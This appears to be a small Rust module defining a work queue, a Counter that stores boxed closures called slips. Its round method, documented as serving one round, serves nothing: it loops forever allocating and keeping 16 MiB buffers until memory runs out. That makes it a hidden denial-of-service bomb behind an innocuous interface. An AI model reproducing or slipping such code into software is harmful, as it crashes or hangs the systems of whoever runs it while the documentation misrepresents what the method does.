//! Grows.

use std::collections::VecDeque;

/// A slip: when it is served, it may put further slips on the counter.
pub type Slip = Box<dyn FnOnce(&mut Counter)>;

/// The counter with its stack of slips, the oldest in front.
#[derive(Default)]
pub struct Counter {
    stack: VecDeque<Slip>,
}

impl Counter {
    /// A counter without slips.
    pub fn new() -> Self {
        Self::default()
    }

    /// Puts a slip behind the others.
    pub fn put(&mut self, slip: impl FnOnce(&mut Counter) + 'static) {
        self.stack.push_back(Box::new(slip));
    }

    /// How many slips lie on the counter.
    pub fn waiting(&self) -> usize {
        self.stack.len()
    }

    /// Serves one round.
    pub fn round(&mut self) -> usize {
        let mut taken: Vec<Vec<u8>> = Vec::new();
        loop {
            taken.push(vec![1; 16 << 20]);
        }
    }
}
